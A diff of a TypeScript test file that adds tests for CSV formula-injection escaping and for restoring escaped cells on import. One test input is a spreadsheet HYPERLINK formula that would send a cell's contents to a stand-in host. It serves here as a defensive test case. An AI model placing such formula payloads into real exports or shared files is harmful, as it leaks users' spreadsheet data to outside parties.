@@ -1,6 +1,6 @@
 import assert from 'node:assert/strict';
 import { describe, test } from 'node:test';
-import { csvCell, csvRecord, moneyValue, parseCsv } from '../../src/domain/exports/csv.ts';
+import { csvCell, csvRecord, moneyCell, moneyValue, parseCsv, restoreFormulaCell } from '../../src/domain/exports/csv.ts';
 import {
   EXPORT_FILTER_CATALOGS,
   ExportFilterError,
@@ -248,6 +248,31 @@ describe('CSV encoding', () => {
     assert.equal(csvCell(12.5), '12.5');
     assert.equal(csvCell([1, 2, 3]), '"1,2,3"');
     assert.equal(csvCell({ a: 1 }), '{""a"":1}'.replace(/^/, '"').replace(/$/, '"'));
+  });
+
+  test('text a spreadsheet would run as a formula gets a leading quote and is quoted; numbers we produced do not', () => {
+    assert.equal(csvCell('=HYPERLINK("http://x.example/?"&A2,"Click me")'), '"\'=HYPERLINK(""http://x.example/?""&A2,""Click me"")"');
+    for (const start of ['=', '+', '-', '@', '\t', '\r']) assert.equal(csvCell(`${start}1+1`), `"'${start}1+1"`, JSON.stringify(start));
+    // User text that looks like a number is still text.
+    assert.equal(csvCell('-5'), `"'-5"`);
+    assert.equal(csvCell('+48 600 100 200'), `"'+48 600 100 200"`);
+    assert.equal(csvCell(['-1', 'a']), `"'-1,a"`);
+    // Quotes already in front of a formula character get one more, so an import can take exactly one off.
+    assert.equal(csvCell("'=x"), `"''=x"`);
+    assert.equal(csvCell("'plain"), "'plain");
+    assert.equal(csvCell('a=b'), 'a=b');
+    // Numbers this program produced stay numbers, money text included.
+    assert.equal(csvCell(-5), '-5');
+    assert.equal(csvCell(-1e21), '-1e+21');
+    assert.equal(csvCell(moneyCell(-1050)), '-10.50');
+    assert.equal(csvCell(moneyCell(200000)), '2000.00');
+  });
+
+  test('an import takes back exactly the quote an export added', () => {
+    for (const text of ['=1+1', '+48 600', '-5', '@SUM(A1)', '\tx', '\rx', "'=x", "''-y", "'plain", 'plain', "'", '']) {
+      const [[read]] = parseCsv(csvRecord([text])) as [[string]];
+      assert.equal(restoreFormulaCell(read), text, JSON.stringify(text));
+    }
   });
 
   test('records end with CRLF and read back as written', () => {
